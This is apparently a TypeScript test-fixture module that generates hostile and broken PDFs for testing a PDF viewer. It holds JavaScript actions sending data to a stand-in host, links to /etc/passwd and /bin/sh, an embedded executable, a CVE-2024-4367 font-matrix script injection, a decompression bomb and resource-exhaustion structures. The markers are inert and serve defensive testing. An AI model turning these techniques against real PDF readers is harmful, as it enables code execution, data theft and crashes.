/** PDFs that were made to do harm, or that came to harm: each tries one thing. Beside it stands text, where the file can have any. */
import { deflateSync } from 'node:zlib';
import { longPdf } from './long.ts';
import { setLine } from './times.ts';
import { literal, PdfFile, ref } from './writer.ts';

/** Where a file would send what it has learnt, if it could. */
export const AWAY = 'https://example.org/caught';

/** Shows that a script of a file ran in a page: its title, its address, a dialog, a name in the global scope. */
const SCRIPT = `app.alert('caught'); this.submitForm('${AWAY}'); globalThis.caught = 1; document.title = 'caught'; fetch('${AWAY}'); window.open('${AWAY}')`;

export interface HostileOptions {
  /** of the page, without text */
  readonly page?: string;
  readonly catalogue?: string;
  readonly fonts?: string;
  readonly resources?: string;
  readonly content?: string | Buffer;
  readonly mediaBox?: string;
  /** puts objects beside, and names them in what is changed */
  readonly with?: (file: PdfFile) => Partial<Omit<HostileOptions, 'with'>>;
}

const WORDS = setLine('T', 12, 72, 700, 'The lamp of this page burns.');

/** One page that says "The lamp of this page burns." */
export function onePage(options: HostileOptions = {}): Buffer {
  const file = new PdfFile();
  const tree = file.reserve();
  const {
    page = '',
    catalogue = '',
    fonts = '',
    resources = '',
    content = '',
    mediaBox = '[0 0 612 792]',
  } = { ...options, ...options.with?.(file) };
  const font = file.put('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /Encoding /WinAnsiEncoding >>');
  const stream = file.stream(Buffer.concat([Buffer.from(WORDS), Buffer.from(content as string, 'latin1')]));
  const one = file.put(
    `<< /Type /Page /Parent ${ref(tree)} /MediaBox ${mediaBox} /Resources << /Font << /T ${ref(font)} ${fonts} >> ${resources} >> /Contents ${ref(stream)} ${page} >>`,
  );
  file.put(`<< /Type /Pages /Count 1 /Kids [${ref(one)}] >>`, tree);
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(tree)} ${catalogue} >>`));
}

const javaScript = `<< /S /JavaScript /JS ${literal(SCRIPT)} >>`;
const link = (action: string, at: number): string =>
  `<< /Type /Annot /Subtype /Link /Rect [72 ${at} 300 ${at + 20}] /Border [0 0 0] /A ${action} >>`;

/** Scripts and actions wherever the format has a place for them. */
export const scripts = (): Buffer =>
  onePage({
    page: `/AA << /O ${javaScript} /C ${javaScript} >> /Annots [
      ${link(javaScript, 600)}
      ${link(`<< /S /URI /URI ${literal('javascript:' + SCRIPT)} >>`, 580)}
      ${link(`<< /S /URI /URI (file:///etc/passwd) >>`, 560)}
      ${link(`<< /S /Launch /F (/bin/sh) >>`, 540)}
      ${link(`<< /S /GoToR /F (${AWAY}) /D [0 /Fit] /NewWindow true >>`, 520)}
      ${link(`<< /S /SubmitForm /F << /FS /URL /F (${AWAY}) >> /Flags 4 >>`, 500)}
      ${link(`<< /S /ImportData /F (${AWAY}) >>`, 480)}
      ${link(`<< /S /Named /N /Print >>`, 460)}
      ${link(`<< /S /URI /URI (data:text/html,<script>document.title=1</script>) >>`, 440)}
      << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [72 400 200 420] /AA << /E ${javaScript} /X ${javaScript} /Fo ${javaScript} /PV ${javaScript} /PO ${javaScript} >> >>
    ]`,
    with: (file) => {
      const attached = file.stream('MZ caught', { entries: '/Type /EmbeddedFile /Subtype /application#2fx-msdownload' });
      const xfa = file.stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT.replace(/[<&]/g, '')}</script></event></subform></template></xdp:xdp>`,
      );
      return {
        catalogue: `/OpenAction ${javaScript} /AA << /WC ${javaScript} /WP ${javaScript} >> /URI << /Base (${AWAY}/) >>
          /Names << /JavaScript << /Names [(a) ${javaScript}] >> /EmbeddedFiles << /Names [(caught.exe) << /Type /Filespec /F (caught.exe) /EF << /F ${ref(attached)} >> >>] >> >>
          /AcroForm << /XFA ${ref(xfa)} /NeedAppearances true /Fields [] >>`,
      };
    },
  });

/** Fonts that pdf.js has to make something of: programs that are none, a matrix that is a script (CVE-2024-4367), letters without names. */
export const fonts = (): Buffer =>
  onePage({
    with: (file) => {
      const procedure = file.stream('1000 0 0 0 750 750 d1 0 0 750 750 re f /X Do');
      const type3 = file.put(
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1e9 -1e9] /FontMatrix [1 2 3 4 5 (1\\); ${SCRIPT.replace(/[()\\]/g, '')}; //)] /CharProcs << /a ${ref(procedure)} >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1e300] >>`,
      );
      const program = (data: string, entry: string, entries = ''): number =>
        file.put(
          `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /${entry} ${ref(file.stream(data, { entries }))} >>`,
        );
      const trueType = file.put(
        `<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 32 /LastChar 34 /Widths [1e12 -1e12 (x)] /FontDescriptor ${ref(program('\x00\x01\x00\x00\x7f\xff\x00\x00glyf\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff', 'FontFile2'))} >>`,
      );
      const matrix = `%!PS-AdobeFont-1.0: Evil\n/FontName /Evil def\n/FontMatrix [0.001 0 0 0.001 0 (0\\); ${SCRIPT.replace(/[()\\]/g, '')}; //)] readonly def\ncurrentfile eexec\n`;
      const type1 = file.put(
        `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 32 /LastChar 32 /Widths [500] /FontDescriptor ${ref(program(matrix, 'FontFile', `/Length1 ${matrix.length} /Length2 0 /Length3 0`))} >>`,
      );
      const descendant = file.put(
        `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Evil /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> /W [0 [1e20] 1 99999999 5] /FontDescriptor ${ref(program('\x01\x00\x04\x04\xff\xff', 'FontFile3', '/Subtype /CIDFontType0C'))} >>`,
      );
      const composite = file.put(
        `<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding /No-Such-CMap-H /DescendantFonts [${ref(descendant)}] >>`,
      );
      const text = (name: string, at: number): string => `BT /${name} 12 Tf 72 ${at} Td (a"! text) Tj ET\n`;
      return {
        fonts: `/E1 ${ref(type3)} /E2 ${ref(trueType)} /E3 ${ref(type1)} /E4 ${ref(composite)}`,
        content: text('E1', 600) + text('E2', 580) + text('E3', 560) + text('E4', 540) + text('None', 520),
      };
    },
  });

/** A million objects that nothing names, and one hundred thousand that the page does. */
export function millionObjects(): Buffer {
  const whole = onePage({
    with: (file) => {
      const many = Array.from({ length: 100_000 }, () => file.put('<< /A [1 2 3] >>'));
      for (let at = 0; at < 900_000; at++) file.put('0');
      return { catalogue: `/Extra [${many.map(ref).join(' ')}]` };
    },
  });
  return whole;
}

/** A tree of pages whose branch is its own root. */
export function cycle(): Buffer {
  const file = new PdfFile();
  const tree = file.reserve();
  file.put(`<< /Type /Pages /Count 5 /Kids [${ref(tree)} ${ref(tree)}] >>`, tree);
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(tree)} >>`));
}

/** The file says that it has 999,999,999 pages, and has one. */
export const liar = (): Buffer => Buffer.from(onePage().toString('latin1').replace('/Count 1 ', '/Count 999999999 '), 'latin1');

/** Pages without number that take a few lines: each branch has the same ten below it. */
export function endlessPages(): Buffer {
  const file = new PdfFile();
  const font = file.put('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>');
  const stream = file.stream(WORDS);
  let below = file.put(`<< /Type /Page /MediaBox [0 0 612 792] /Resources << /Font << /T ${ref(font)} >> >> /Contents ${ref(stream)} >>`);
  let count = 1;
  for (let level = 0; level < 6; level++) {
    count *= 10;
    below = file.put(`<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: 10 }, () => ref(below)).join(' ')}] >>`);
  }
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(below)} >>`));
}

/** Lists in lists, a hundred thousand deep. */
export const deep = (): Buffer => onePage({ catalogue: `/Deep ${'['.repeat(100_000)}${']'.repeat(100_000)}`, content: '['.repeat(50_000) });

/** A stream of a megabyte that unpacks to a thousand of them. @param bytes when unpacked */
export function bomb(bytes: number): Buffer {
  // deflated twice: zeros pack to a thousandth each time
  const once = deflateSync(Buffer.alloc(bytes), { level: 9 });
  const twice = deflateSync(once, { level: 9 });
  const file = new PdfFile();
  const tree = file.reserve();
  const font = file.put('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>');
  const words = file.stream(WORDS);
  const zeros = file.stream(twice, { filter: '[/FlateDecode /FlateDecode]' });
  const kids = [words, zeros].map((content) =>
    file.put(
      `<< /Type /Page /Parent ${ref(tree)} /MediaBox [0 0 612 792] /Resources << /Font << /T ${ref(font)} >> >> /Contents ${ref(content)} >>`,
    ),
  );
  file.put(`<< /Type /Pages /Count 2 /Kids [${kids.map(ref).join(' ')}] >>`, tree);
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(tree)} >>`));
}

/** Pages of no size, of a negative one, of one without bounds, of one that is no number; the first is sound. */
export function boxes(): Buffer {
  const file = new PdfFile();
  const tree = file.reserve();
  const font = file.put('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>');
  const words = file.stream(WORDS);
  const kids = ['[0 0 612 792]', '[0 0 0 0]', '[612 792 0 0]', '[0 0 1e9 1e9]', '[0 0 (a) /b]', '[0 0 14400 1]', 'null'].map((box) =>
    file.put(
      `<< /Type /Page /Parent ${ref(tree)} /MediaBox ${box} /Rotate ${box.length * 7} /UserUnit 1e6 /Resources << /Font << /T ${ref(font)} >> >> /Contents ${ref(words)} >>`,
    ),
  );
  file.put(`<< /Type /Pages /Count ${kids.length} /Kids [${kids.map(ref).join(' ')}] >>`, tree);
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(tree)} >>`));
}

/** A page with a million pieces of text, each on a line of its own. */
export const millionTexts = (): Buffer =>
  onePage({
    content: Array.from({ length: 1_000_000 }, (_, at) => `BT /T 1 Tf 1 0 0 1 ${at % 600} ${(at * 7) % 790} Tm (a) Tj ET`).join('\n'),
  });

/** A picture of 30,000 by 30,000 points. */
export const hugePicture = (): Buffer =>
  onePage({
    content: 'q 400 0 0 400 72 200 cm /I Do Q',
    with: (file) => {
      const data = file.stream(deflateSync(Buffer.alloc(1_000_000)), {
        filter: '/FlateDecode',
        entries: '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8',
      });
      return { resources: `/XObject << /I ${ref(data)} >>` };
    },
  });

/** A form that draws itself, twice. */
export const loop = (): Buffer =>
  onePage({
    content: '/F Do',
    with: (file) => {
      const form = file.reserve();
      file.stream(
        '/F Do /F Do',
        { entries: `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F ${ref(form)} >> >>` },
        form,
      );
      return { resources: `/XObject << /F ${ref(form)} >>` };
    },
  });

/** Where the table of objects leads is wrong, but the objects are there. */
export const brokenTable = (): Buffer => {
  const whole = longPdf(3).bytes.toString('latin1');
  return Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n77').replace(/xref\n0 \d+/, 'xref\n0 99999'), 'latin1');
};

/** The file ends in the midst of its second page. */
export const torn = (): Buffer => {
  const whole = longPdf(3).bytes;
  return whole.subarray(0, Math.round(whole.length * 0.6));
};

/** One page of three is a number and no page. */
export function brokenPage(): Buffer {
  const file = new PdfFile();
  const tree = file.reserve();
  const font = file.put('<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>');
  const words = file.stream(WORDS);
  const page = `<< /Type /Page /Parent ${ref(tree)} /MediaBox [0 0 612 792] /Resources << /Font << /T ${ref(font)} >> >> /Contents ${ref(words)} >>`;
  const kids = [page, '12345', page].map((body) => file.put(body));
  file.put(`<< /Type /Pages /Count 3 /Kids [${kids.map(ref).join(' ')}] >>`, tree);
  return file.bytes(file.put(`<< /Type /Catalog /Pages ${ref(tree)} >>`));
}
